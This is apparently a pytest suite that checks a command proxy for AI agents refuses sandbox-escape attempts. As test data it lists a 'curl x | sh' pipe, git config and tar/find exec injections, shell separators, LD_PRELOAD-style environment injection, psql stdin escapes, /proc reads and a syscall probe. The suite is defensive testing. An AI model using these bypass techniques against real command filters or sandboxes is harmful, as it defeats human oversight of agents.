# SPDX-License-Identifier: Apache-2.0
"""Adversarial group C against a real nucleus-tool-proxy (profile fix-issue): shells and code
runners, git -c, find -exec, tar actions, interpreters, git push with a foreign token,
separators without a shell, environment injection, and the child's confinement."""
import base64
import os

import pytest

from helpers.proxyrun import (Approver, agent_ids, approver, configure, err_kind,  # noqa: F401
                              fix_issue_policy, last_audit, proxy, proxy_bin)

MARK = "/tmp/nucleus-x-pwned"


@pytest.fixture(autouse=True)
def no_marker():
    if os.path.exists(MARK):
        os.unlink(MARK)
    yield
    assert not os.path.exists(MARK), "a refused command ran"


def refused(pp, args, kinds=("command_denied",)):
    r = pp.ch.request("run", args)
    assert err_kind(r) in kinds, r
    ev = last_audit(pp, "run")
    assert ev["decision"] == "deny" and ev["kind"] == r["kind"]
    return r


C1 = [["bash", "-c", f"curl x | sh; touch {MARK}"], ["/bin/bash", "-c", f"touch {MARK}"],
      ["/usr/bin/env", "bash", "-c", f"touch {MARK}"], ["env", "X=1", "sh", "-c", f"touch {MARK}"],
      ["nice", "sh", "-c", f"touch {MARK}"], ["timeout", "5", "sh", "-c", f"touch {MARK}"],
      ["sh", f"-c", f"touch {MARK}"], ["dash", "-c", f"touch {MARK}"]]


@pytest.mark.parametrize("argv", C1)
def test_c1_shells_without_run_bash_shell(proxy_bin, agent_ids, proxy, argv):
    # Even with the wrappers themselves allowlisted, what they run is judged.
    configure(proxy, policy=fix_issue_policy(proxy_bin, *agent_ids, extra_allowed=["env", "nice", "timeout"]))
    refused(proxy, {"argv": argv})
    refused(proxy, {"command": " ".join(a if " " not in a else repr(a) for a in argv)})


C2 = [["git", "-c", f"core.sshCommand=touch {MARK}", "fetch"], ["git", "-c", "core.pager=sh -c id", "log"],
      ["git", "-c", "alias.x=!id", "x"], ["git", "-c", f"core.fsmonitor=touch {MARK}", "status"],
      ["git", "--config-env=core.pager=X", "log"]]


@pytest.mark.parametrize("argv", C2)
def test_c2_git_config_injection(proxy, argv):
    configure(proxy)
    refused(proxy, {"argv": argv})


C3 = [["find", ".", "-exec", "sh", "-c", "id", ";"], ["find", ".", "-execdir", "touch", MARK, ";"],
      ["find", ".", "-fprint", "/etc/x"], ["find", ".", "-ok", "id", ";"]]


@pytest.mark.parametrize("argv", C3)
def test_c3_find_exec(proxy_bin, agent_ids, proxy, argv):
    configure(proxy, policy=fix_issue_policy(proxy_bin, *agent_ids, extra_allowed=["find"]))
    refused(proxy, {"argv": argv})


C4 = [["tar", "--checkpoint=1", f"--checkpoint-action=exec=touch {MARK}", "-cf", "/dev/null", "."],
      ["tar", "--to-command=sh", "-xf", "a.tar"], ["tar", "-I", f"touch {MARK}", "-cf", "x.tar", "."]]


@pytest.mark.parametrize("argv", C4)
def test_c4_tar_actions(proxy_bin, agent_ids, proxy, argv):
    configure(proxy, policy=fix_issue_policy(proxy_bin, *agent_ids, extra_allowed=["tar"]))
    refused(proxy, {"argv": argv})


C5 = [["xargs", "sh", "-c", "id"], ["python3", "-c", f"open('{MARK}','w')"], ["perl", "-e", "print 1"],
      ["node", "-e", "1"], ["python3", "-", "-c"]]


@pytest.mark.parametrize("argv", C5)
def test_c5_interpreters(proxy_bin, agent_ids, proxy, argv):
    configure(proxy, policy=fix_issue_policy(proxy_bin, *agent_ids, extra_allowed=["xargs", "python3", "perl", "node"]))
    refused(proxy, {"argv": argv})


def test_c6_git_push_refused_even_with_other_token(proxy, approver):
    configure(proxy, approver=approver)
    argv = ["git", "push", "origin", "main"]
    tok = approver.mint("pod-test", "git_commit", args=argv)
    r = refused(proxy, {"argv": argv, "approval": tok}, kinds=("insufficient_capability",))
    assert "git_push" in r["error"]
    tok2 = approver.mint("pod-test", "git_push", args=argv)
    refused(proxy, {"argv": argv, "approval": tok2}, kinds=("insufficient_capability",))
    refused(proxy, {"argv": ["/usr/bin/git", "-C", ".", "push"]}, kinds=("insufficient_capability", "command_denied"))


@pytest.mark.parametrize("cmd", [f"git status\ntouch {MARK}", f"git status; touch {MARK}",
                                 f"git status && touch {MARK}", f"git status | tee {MARK}",
                                 f"git status > {MARK}", f"git status `touch {MARK}`", f"git log $(touch {MARK})"])
def test_c7_separators_without_shell(proxy, cmd):
    configure(proxy)
    refused(proxy, {"command": cmd})


def test_c8_env_injection_and_clean_environment(proxy_bin, agent_ids, proxy):
    configure(proxy, policy=fix_issue_policy(proxy_bin, *agent_ids, extra_allowed=["cat", "ls"]),
              env={"RUST_LOG": "from-spec"})
    for name in ["LD_PRELOAD", "GIT_SSH_COMMAND", "BASH_ENV", "PAGER", "NODE_OPTIONS", "RUST_LOG"]:
        refused(proxy, {"argv": ["cat", "/proc/self/environ"], "env": {name: f"touch {MARK}"}})
    r = proxy.ch.request("run", {"argv": ["cat", "/proc/self/environ"]})
    raw = base64.b64decode(r["stdout_base64"]).decode() if "stdout_base64" in r else r["stdout"]
    env = dict(kv.split("=", 1) for kv in raw.split("\0") if kv)
    # Plus the fixed git hardening list, which is the same for every pod.
    assert {k for k in env if not k.startswith("GIT_")} == {"PATH", "HOME", "LANG", "TERM", "USER", "LOGNAME",
                                                           "RUST_LOG"}, env
    assert env["GIT_CONFIG_NOSYSTEM"] == "1" and "NUCLEUS_SECRET_CANARY" not in env
    assert env["RUST_LOG"] == "from-spec"
    assert "canary-7f3a" not in raw  # the proxy's own environment never leaks
    # The proxy's process is out of reach: environ, memory and fds belong to root.
    pid = proxy.proc.pid
    for p in [f"/proc/{pid}/environ", f"/proc/{pid}/mem", f"/proc/{pid}/fd/0"]:
        r = proxy.ch.request("run", {"argv": ["cat", p]})
        assert r["exit_code"] != 0 and "canary" not in r.get("stdout", ""), (p, r)
    # Only stdio is open in the child.
    r = proxy.ch.request("run", {"argv": ["ls", "/proc/self/fd"]})
    assert sorted(r["stdout"].split()) == ["0", "1", "2", "3"], r  # 3 = ls's own directory fd


@pytest.mark.parametrize("name", ["LD_PRELOAD", "LD_LIBRARY_PATH", "GIT_SSH_COMMAND", "BASH_ENV", "PAGER",
                                  "NODE_OPTIONS", "PYTHONSTARTUP", "HOME", "PATH"])
def test_c8_configure_refuses_dangerous_env(proxy, name):
    r = proxy.ch.request("configure", {"pod_id": "p", "profile": "fix-issue", "env": {name: "x"}})
    assert err_kind(r) == "invalid_request" and name in r["error"]


SECCOMP_PROBE = r"""
import ctypes, ctypes.util, errno
libc = ctypes.CDLL(None, use_errno=True)
def call(nr, *a):
    r = libc.syscall(nr, *[ctypes.c_long(x) for x in a])
    return ctypes.get_errno() if r == -1 else 0
# x86_64 syscall numbers
print("unshare=%d" % call(272, 0x10000000))            # CLONE_NEWUSER
print("clone_newns=%d" % call(56, 0x00020000 | 17, 0, 0, 0, 0))
print("mount=%d" % call(165, 0, 0, 0, 0, 0))
print("ptrace=%d" % call(101, 16, 1, 0, 0))            # PTRACE_ATTACH pid 1
print("bpf=%d" % call(321, 0, 0, 0))
print("keyctl=%d" % call(250, 0, 0, 0, 0, 0))
print("setns=%d" % call(308, 0, 0))
print("perf_event_open=%d" % call(298, 0, 0, -1, -1, 0))
print("io_uring_setup=%d" % call(425, 1, 0))
print("clone3=%d" % call(435, 0, 0))
"""


def test_confinement_uid_landlock_seccomp_rlimits(proxy_bin, agent_ids, proxy):
    configure(proxy, policy=fix_issue_policy(proxy_bin, *agent_ids,
                                             extra_allowed=["touch", "python3", "cat", "id", "ls"]))
    r = proxy.ch.request("run", {"argv": ["id", "-u"]})
    assert r["stdout"].strip() == str(agent_ids[0])
    # Landlock: /var/tmp is world-writable, yet writes outside the workspace and /tmp fail.
    r = proxy.ch.request("run", {"argv": ["touch", "/var/tmp/nucleus-x-landlock"]})
    landlock = os.path.exists("/sys/kernel/security/landlock") or r["exit_code"] != 0
    if landlock:
        assert r["exit_code"] != 0 and not os.path.exists("/var/tmp/nucleus-x-landlock"), r
    r = proxy.ch.request("run", {"argv": ["touch", "inside.txt"]})
    assert r["exit_code"] == 0 and os.path.exists(os.path.join(proxy.ws, "inside.txt"))
    # seccomp: the deny-list answers EPERM (clone3: ENOSYS, so libc falls back to clone).
    proxy.ch.request("write", {"path": "probe.py", "content": SECCOMP_PROBE})
    r = proxy.ch.request("run", {"argv": ["python3", "probe.py"]})
    assert r["exit_code"] == 0, r
    res = dict(line.split("=") for line in r["stdout"].split())
    assert res == {"unshare": "1", "clone_newns": "1", "mount": "1", "ptrace": "1", "bpf": "1", "keyctl": "1",
                   "setns": "1", "perf_event_open": "1", "io_uring_setup": "1", "clone3": "38"}, res
    # no_new_privs and dropped capabilities.
    r = proxy.ch.request("run", {"argv": ["cat", "/proc/self/status"]})
    st = dict(line.split(":", 1) for line in r["stdout"].splitlines() if ":" in line)
    assert st["NoNewPrivs"].strip() == "1" and st["Seccomp"].strip() == "2"
    assert int(st["CapEff"].strip(), 16) == 0 and st["Groups"].strip() == ""


def test_c9_stdin_of_database_shells_is_code(proxy):
    # database_client allows psql with plain SQL, but psql reads backslash commands ('\! id')
    # from stdin, which the command analysis never sees: no request stdin without a shell grant.
    configure(proxy, profile="database-client")
    r = refused(proxy, {"argv": ["psql", "-X", "-c", "select 1"], "stdin": f"\\! touch {MARK}\n"})
    assert "stdin" in r["error"]
    # The same program without request stdin is judged on its arguments alone (it may then fail
    # to run here: psql is not installed; what matters is that the policy let it through).
    r = proxy.ch.request("run", {"argv": ["psql", "-X", "-c", "select 1"]})
    assert r.get("kind") != "command_denied", r
